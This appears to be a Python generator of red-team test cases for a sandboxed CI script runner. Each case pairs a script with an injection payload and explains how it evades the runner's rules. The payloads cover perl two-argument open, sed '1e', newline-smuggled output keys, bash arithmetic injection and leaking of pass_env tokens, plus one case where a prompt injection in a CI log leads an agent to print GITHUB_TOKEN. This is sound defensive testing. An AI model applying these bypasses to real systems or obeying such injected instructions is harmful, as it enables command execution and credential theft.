# Round fifty attacks (helpers: round 49 lines 1-99 with r49 -> r50) (exec'd by gen_attacks.py; uses A, T, SH, ARITH, SEDE).
import json, textwrap


def J(d):
    """a schema or mapping as YAML flow text (JSON is YAML)"""
    return json.dumps(d)


def X(name, cls, desc, argdefs, steps, args, why, head="", **extra):
    """an export with one or more run: steps; steps = [(name, script, {step keys})]"""
    req = [k for k in argdefs if "default" not in argdefs[k]]
    y = "name: %s\ndescription: %s\n" % (name.replace("-", "_"), J(desc))
    if argdefs:
        y += "args:\n"
        for k, v in argdefs.items():
            y += "  %s: %s\n" % (k, J(v))
        y += "required: [%s]\n" % ", ".join(req)
    y += head
    y += "timeout: 30\nsteps:\n"
    for sname, script, keys in steps:
        y += "  - name: %s\n" % sname
        for k, v in (keys or {}).items():
            y += "    %s: %s\n" % (k, J(v))
        y += "    run: |\n"
        y += textwrap.indent(textwrap.dedent(script).strip() + "\n", "      ")
    A(name, cls, y, args, why, **extra)


def R(name, cls, desc, argdefs, script, args, why, head="", env=None, **extra):
    X(name, cls, desc, argdefs, [("s", script, {"env": env} if env else None)], args, why, head=head, **extra)



# ------------------------------------------------------------------ shared bits
import base64, io, tarfile

PW = "HARBOR-PWNED-$((6*7))"                       # computed by the shell that runs the payload
TEE = 'tee -a /tmp/harbor-r50-pwned "$HARBOR_RUN_DIR/pwned"'
SHP = "echo %s | %s" % (PW, TEE)                     # a sh command line: marker to stdout, /tmp and the run dir
# the same in a bash arithmetic subscript, with no blank (for consumers that split at blanks)
ARITH1 = "x[$(echo${IFS}%s|tee${IFS}-a${IFS}/tmp/harbor-r50-pwned${IFS}$HARBOR_RUN_DIR/pwned>&2)]" % PW
ARITHB = "x[$(%s >&2)]" % SHP
SEC = "secrets:\n  API_TOKEN: {env: CI_API_TOKEN}\n"
DBSEC = "secrets:\n  DB_PASSWORD: {env: CI_DB_PASSWORD}\n"
STUB = "#!/bin/sh\n" + SHP + "\n"


def b64(s):
    return base64.b64encode(s.encode()).decode()


def tgz(files):
    """a .tar.gz (base64) of {name: (mode, text)}"""
    bio = io.BytesIO()
    with tarfile.open(fileobj=bio, mode="w:gz") as t:
        for name, (mode, body) in files.items():
            data = body.encode()
            ti = tarfile.TarInfo(name)
            ti.size, ti.mode, ti.mtime = len(data), mode, 1700000000
            t.addfile(ti, io.BytesIO(data))
    return base64.b64encode(bio.getvalue()).decode()


ATT_TXT = {"type": "string", "contentEncoding": "base64", "contentMediaType": "text/plain", "max_bytes": 65536}
ATT_JSON = {"type": "string", "contentEncoding": "base64", "contentMediaType": "application/json", "max_bytes": 65536}
ATT_TGZ = {"type": "string", "contentEncoding": "base64", "contentMediaType": "application/gzip", "max_bytes": 1048576}
REPO = {"type": "string", "pattern": "^[A-Za-z0-9._/-]{1,200}$",
        "description": "repository path on the company git server, e.g. team/app.git"}
GITREDIR = "go/127.0.0.1/18765/team/app.git"          # the author's server redirects /go/HOST/PORT/… there




CURLRC = 'proxy = "http://127.0.0.1:18765"\n'
PYJSON = "import os\nos.system('%s')\n" % SHP.replace("'", "\\'")
NAME = {"type": "string", "pattern": "^[A-Za-z0-9._]{1,40}$", "description": "file name of the snippet"}


# ================================================================== round 41 attacks
R38L = ("Round 38: a language's program given a run-directory file as an operand reads caller data from it, and is "
        "read for its language's ways to run text (perl: eval, system, backticks, 2-argument open, <>, readline(ARGV); "
        "node: eval, Function, require, child_process, computed global names, process, this, Reflect, module). ")
TXT = {"type": "string", "maxLength": 300}
NOTE = {"type": "string", "maxLength": 300, "description": "one line of text"}
CFG = dict(ATT_TXT, description="the team's git settings file")
# a git config whose fsmonitor hook git status runs (a shell command line); marker to stderr, /tmp and the run dir
HOOKCMD = "echo %s | tee -a /tmp/harbor-r50-pwned $HARBOR_RUN_DIR/pwned >&2; false" % PW
FSMON = '[core]\n\tfsmonitor = "%s"\n' % HOOKCMD
HOOKSH = "#!/bin/sh\n" + SHP + " >&2\nexit 1\n"
R39 = ("Round 39: a path of a place a step may write is caller data, refused where the grammar says code or config "
       "(git -c include.path=, GIT_CONFIG_GLOBAL as a KEY=); the places named are the run directory, temporary "
       "folders, home, /dev/shm, /run/shm, /run/lock, /run/user, /var/lock, /var/run/shm, /proc/*/root, mktemp, "
       "paths with .. after a link. ")
R39X = ("Round 39/40: the exception for a file the same step wrote in full just before at its top level with printf "
        "of the author's text, named by no other command of the script, for a program with a grammar and no program "
        "text; off when the script has set +e or set -C, or mentions noclobber or errexit. ")




# ================================================================== round 50 attacks
SEDX = "x|;1e " + SHP + " >&2;#"                      # caller text that lands in sed "s|A|<here>|"
# the same with no blank, no '*' and no '[' (a git ref name holds none of them): sh reads ${IFS} as a blank
REFX = ("x|;1eecho${IFS}HARBOR-PWNED-$((40+2))|tee${IFS}-a${IFS}/tmp/harbor-r50-pwned"
        "${IFS}$HARBOR_RUN_DIR/pwned>&2;#")
OAUTH = {"HARBOR_CALLER_PRINCIPAL": "oauth:alice", "HARBOR_CALLER_TENANT": "acme", "HARBOR_CALLER_GROUPS": "dev"}
R2 = ("Rule 2: what a git command that only reads the repository prints is the author's, also with a revision the "
      "caller chose for git describe/log/show (one word that cannot be an option). ")

# ---- class A: perl's -n/-p loop is an implicit <> (2-argument open of each operand)
R("log-errors-perl", "perl -n/-p implicit <> over a caller-named operand",
  "Print the ERROR and FATAL lines of one log file under logs/.",
  {"log": {"type": "string", "within": "logs", "default": "logs/app.log",
           "description": "log file, relative to the project; it must stay inside logs/"}},
  """
  perl -lne 'print if /\\b(ERROR|FATAL)\\b/' -- "$ARG_log"
  """,
  {"log": "logs/x;" + SHP + " >&2 |"},
  "Security.md rule 8 lists perl's `<>` and readline(ARGV) as ways to run text and exports.md (rules) says a *.pl "
  "script may loop over `<>`, so caller data there must hold no `|`. The program text here holds no `<>`: perl's "
  "-n switch wraps it in `while (<>)`, which opens each operand with 2-argument open, `--` notwithstanding. "
  "`within: logs` admits the value: a path that does not exist is resolved through its longest existing prefix "
  "(logs/), the rest taken as written. perl runs `logs/x;echo …|` through sh.")

R("mask-ips-perl", "perl -n/-p implicit <> over a caller-named operand",
  "Print one log file with client IP addresses masked, for pasting into a ticket.",
  {"file": {"type": "string", "within": ".", "default": "logs/access.log",
            "description": "file to mask, relative to the project; it must stay inside it"}},
  """
  perl -pe 's/\\b\\d{1,3}(?:\\.\\d{1,3}){3}\\b/x.x.x.x/g' "$ARG_file" > "$HARBOR_RUN_DIR/masked.log"
  wc -l < "$HARBOR_RUN_DIR/masked.log"
  tail -n 50 "$HARBOR_RUN_DIR/masked.log"
  """,
  {"file": "x;" + SHP + " >&2 |"},
  "perl -p is `while (<>) { …; print }`: each operand opened with 2-argument open. The literal program uses no "
  "primitive of rule 8's perl list by name. `within: .` admits `x;echo …|` (it does not exist, so it resolves "
  "inside the folder as written).")

# ---- class B: a git reader's error text captured with 2>&1 as if it were what git prints of the repository
R("release-notes-header", "git reader's stderr (echoing the caller's revision) captured as the repository's text",
  "Preview the changelog with its top heading renamed to what git describes the given ref as.",
  {"ref": {"type": "string", "maxLength": 200, "default": "HEAD", "description": "tag, branch or commit to describe"}},
  """
  desc=$(git describe --tags --always "$ARG_ref" 2>&1) || true
  sed "1s|^## .*|## $desc|" CHANGELOG.md > "$HARBOR_RUN_DIR/CHANGELOG.preview.md"
  head -n 20 "$HARBOR_RUN_DIR/CHANGELOG.preview.md"
  """,
  {"ref": SEDX},
  R2 + "The capture has `2>&1`: for a revision that names nothing, git describe prints `fatal: Not a valid object "
  "name REV` with the caller's word verbatim, and `x=$(…) || true` keeps that text. The only output-joining rule "
  "in the docs is jq's (round 35); sed then runs `1e` from the caller's text.")

# ---- class C: step outputs: a newline made after validation smuggles a second key
X("build-stamp", "step output key smuggled by a newline decoded after validation",
  "Record a build title and stamp the staging values file with the release channel.",
  {"title": {"type": "string", "maxLength": 300, "description": "one-line title of the build"}},
  [("meta", """
    if git describe --exact-match --tags HEAD >/dev/null 2>&1; then
      echo "channel=release" >> "$HARBOR_STEP_OUTPUT"
    fi
    echo -e "title=$ARG_title\\tlen=${#ARG_title}" >> "$HARBOR_STEP_OUTPUT"
    """, None),
   ("stamp", """
    channel=${STEP_meta_channel:-nightly}
    sed "s|^\\(image:\\).*|\\1 $channel|" deploy/envs/staging.yaml > "$HARBOR_RUN_DIR/staging.yaml"
    cat "$HARBOR_RUN_DIR/staging.yaml"
    """, None)],
  {"title": "Fix login\\nchannel=" + SEDX},
  "Rule 2: an earlier step's outputs are clean when every statement appending to $HARBOR_STEP_OUTPUT is clean; "
  "rule 5: an output written as `echo \"key=$v\"` holds exactly $v's. The title arg is single-line (no multiline), "
  "but `echo -e` decodes its `\\n` after validation into a second line `channel=…`; rule 3 names `printf %b` and "
  "`${x@E}` as rewrites but not `echo -e`. `channel` is written elsewhere only by the author's literal, so "
  "$STEP_meta_channel looks clean and goes into a sed program.")

X("ticket-summary", "step output key smuggled by a newline decoded after validation",
  "Store a summary of the incident ticket and render the status-page template with the incident severity.",
  {"summary": {"type": "string", "maxLength": 400, "description": "one-line incident summary"}},
  [("meta", """
    if [[ -f config/incident.sev ]]; then
      echo "severity=$(head -n 1 config/incident.sev)" >> "$HARBOR_STEP_OUTPUT"
    fi
    awk -v s="$ARG_summary" 'BEGIN { printf "summary=%s\\n", s }' >> "$HARBOR_STEP_OUTPUT"
    """, None),
   ("render", """
    sev=${STEP_meta_severity:-minor}
    sed "s|@SEVERITY@|$sev|g" docs/index.md > "$HARBOR_RUN_DIR/status.md"
    cat "$HARBOR_RUN_DIR/status.md"
    """, None)],
  {"summary": "Login outage\\nseverity=" + SEDX},
  "As build-stamp, through awk: POSIX awk processes escape sequences in a `-v` assignment, so the single-line "
  "summary's `\\n` becomes a newline in what the literal awk program prints into $HARBOR_STEP_OUTPUT. The docs "
  "read awk programs for system/pipes/getline, not for -v's decoding. `severity` is otherwise written only from a "
  "file no step writes.")

# ---- class D: pass_env credentials are ambient: a literal program prints any variable the caller names
R("npm-settings", "pass_env credential printed by a literal program that reads its own environment",
  "Show one effective npm setting of the build environment (from the server's environment).",
  {"setting": {"type": "string", "pattern": "^NPM_[A-Z0-9_]{1,60}$", "default": "NPM_CONFIG_REGISTRY",
               "description": "the NPM_* variable to show"}},
  """
  awk -v name="$ARG_setting" 'BEGIN { v = ENVIRON[name]; if (v == "") v = "(unset)"; print name " = " v }'
  """,
  {"setting": "NPM_TOKEN"},
  "Rounds 47/48 hold a pass_env name as a secret only where the script gives it to a program at a credential "
  "place. Here the script never names NPM_TOKEN: pass_env puts it in every program's environment (only caller "
  "data is not ambient), and the literal awk program (no system, pipe or getline) prints ENVIRON[the caller's "
  "name]. The export has no `secrets:`, so nothing scrubs the value.",
  head="pass_env: [NPM_TOKEN, NPM_CONFIG_REGISTRY]\n", server_env={"NPM_TOKEN": "s3cr3tT0ken99"})

R("argocd-client-env", "pass_env credential printed by a literal program that reads its own environment",
  "Show the Argo CD client settings the deploy exports run with.",
  {"key": {"type": "string", "pattern": "^ARGOCD_[A-Z_]{2,40}$", "default": "ARGOCD_SERVER",
           "description": "an ARGOCD_* setting, e.g. ARGOCD_SERVER or ARGOCD_OPTS"}},
  """
  jq -n --arg k "$ARG_key" '{key: $k, value: ($ENV[$k] // null)}'
  """,
  {"key": "ARGOCD_AUTH_TOKEN"},
  "jq's `$ENV` in the author's literal program, indexed by the caller's `--arg` (data). The docs name jq's `env` "
  "only for a caller's program (gh --jq, H009). ARGOCD_AUTH_TOKEN is passed for the argocd CLI, which reads it "
  "from its environment; the script never names it, so rounds 47/48 do not hold it as a secret.",
  head="pass_env: [ARGOCD_SERVER, ARGOCD_AUTH_TOKEN, ARGOCD_OPTS]\n",
  server_env={"ARGOCD_AUTH_TOKEN": "s3cr3tT0ken99", "ARGOCD_SERVER": "argocd.example.com"})

A("triage-agent-env", "pass_env credential printed by a literal program that reads its own environment",
  """
name: triage_agent
description: "An assistant that triages a failing CI job; it may look up build settings."
args:
  job: {type: integer, minimum: 1, maximum: 100000, description: "CI job number"}
required: [job]
pass_env: [GITHUB_TOKEN, CI_REGISTRY, CI_PROJECT]
timeout: 30
tools:
  build_setting:
    description: "Value of one build setting (CI_* or GITHUB_*) of the server's environment."
    args:
      name: {type: string, pattern: "^(CI|GITHUB)_[A-Z_]{2,40}$"}
    required: [name]
    run: |
      awk -v n="$ARG_name" 'BEGIN { print n "=" ENVIRON[n] }'
steps:
  - name: triage
    agent:
      model: triage
      system: "You triage CI failures. Use build_setting when a setting matters."
      prompt: "Job {{ args.job }} failed. Explain why."
      tools: [build_setting]
      max_turns: 4
""", {"job": 7},
  "The model is one more untrusted author (security.md section 12): a prompt injection in the job's log makes it "
  "call build_setting with GITHUB_TOKEN. The custom tool's literal awk program prints ENVIRON[the model's name]; "
  "the token is ambient through pass_env (for gh, which reads it itself) and the script never names it.",
  model_calls=[{"tool": "build_setting", "args": {"name": "GITHUB_TOKEN"}}],
  server_env={"GITHUB_TOKEN": "s3cr3tT0ken99"})

# ---- class E: the caller's identity claims are exported; a literal program reads them from its environment
R("tenant-values", "exported OAuth claims read back by a literal program from its environment",
  "Render the staging values file labelled for the calling tenant.",
  {},
  """
  label=$(awk 'BEGIN { print "tenant-" ENVIRON["HARBOR_CALLER_TENANT"] }')
  sed "s|^\\(name:\\).*|\\1 $label|" deploy/envs/staging.yaml > "$HARBOR_RUN_DIR/values.yaml"
  cat "$HARBOR_RUN_DIR/values.yaml"
  """,
  {},
  "Rounds 45/46: HARBOR_CALLER_TENANT is read as a caller's text in a sed or awk program, and the runtime still "
  "exports it. The script never expands $HARBOR_CALLER_TENANT: awk reads it from ENVIRON, in BEGIN alone, which "
  "round 15 accepts as the author's values; the label then goes into a sed program (`1e`).",
  caller=dict(OAUTH, HARBOR_CALLER_TENANT="acme" + SEDX))

R("group-banner", "exported OAuth claims read back by a literal program from its environment",
  "Print the nginx config with the caller's first group as its banner comment.",
  {},
  """
  role=$(jq -rn 'env.HARBOR_CALLER_GROUPS | split(",") | .[0] // "none"')
  sed "1s|^|# served for $role\\n|" config/nginx.conf
  """,
  {},
  "As tenant-values with jq -n (reads no file) and `env`: the OAuth groups claim (unprefixed, as the IdP states "
  "it) reaches a sed program without the script ever naming HARBOR_CALLER_GROUPS.",
  caller=dict(OAUTH, HARBOR_CALLER_GROUPS="ops" + SEDX.replace(",", "") + ",dev"))

# ---- class F: data stores the docs' writer lists do not name carry a caller's text back as the author's
X("start-feature-branch", "a repository write the docs' list does not name (git branch): ref names as the author's",
  "Create a feature branch from HEAD and preview the changelog heading for every feature branch.",
  {"topic": {"type": "string", "maxLength": 120, "description": "topic of the feature, e.g. login"}},
  [("branch", """
    git branch "feature/$ARG_topic" HEAD
    """, None),
   ("preview", """
    while read -r b; do
      sed -n "1s|^## .*|## $b (unreleased)|p" CHANGELOG.md
    done < <(git for-each-ref --format='%(refname:lstrip=1)' refs/heads/feature)
    """, None)],
  {"topic": REFX},
  R2 + "The repository's text stays the author's 'when no step writes caller data into the repository with git "
  "commit, git tag, git notes…'. `git branch NAME` writes the caller's text as a ref name; ref names may hold "
  "`|`, `;`, `$`, `{`, `(`, `>`, `&`, `#` (not blanks, `*` or `[`), so sh's ${IFS} stands for blanks and the "
  "marker is $((40+2)). git for-each-ref prints it in a later step, into a sed program.")

X("enqueue-order", "a repository write the docs' list does not name (sqlite through Python's allowlisted module)",
  "Queue an order in the app database and print the open orders per item.",
  {"item": {"type": "string", "maxLength": 200, "description": "what was ordered"}},
  [("insert", """
    python3 - "$ARG_item" <<'PY'
    import sqlite3, sys
    db = sqlite3.connect("data/app.db")
    db.execute("insert into orders(id, item, status) values ((select coalesce(max(id), 0) + 1 from orders), ?, 'open')",
               (sys.argv[1],))
    db.commit()
    PY
    """, None),
   ("summary", """
    total=0
    while read -r item n; do
      printf '%-20s %s\\n' "$item" "$n"
      (( total += n ))
    done < <(python3 -c 'import sqlite3
    for item, n in sqlite3.connect("data/app.db").execute("select item, count(*) from orders where status = ? group by item", ("open",)):
        print(item, n)')
    echo "open orders: $total"
    """, None)],
  {"item": "widget " + ARITH1},
  "Rule 8 allows `sqlite3` with literal SQL in a Python program, and rule 2/round 15 take what a literal Python "
  "program prints of literal files no step can write as the author's. The first step writes the caller's item "
  "into data/app.db with a bound parameter (no `open(…, 'w')`, no write primitive by name); the second reads it "
  "back: `read -r item n` gives n `x[$(…)] 1`, which `(( total += n ))` evaluates as arithmetic.")
